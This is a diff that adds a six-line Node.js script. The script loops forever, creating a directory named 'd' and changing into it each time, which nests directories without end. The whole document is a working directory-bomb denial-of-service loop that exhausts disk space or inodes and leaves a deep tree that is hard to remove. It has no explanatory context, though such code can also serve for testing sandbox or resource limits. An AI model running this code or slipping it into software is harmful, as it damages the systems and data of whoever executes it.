@@ -1,0 +1,6 @@
+import { mkdirSync } from 'node:fs';
+
+for (;;) {
+  mkdirSync('d');
+  process.chdir('d');
+}
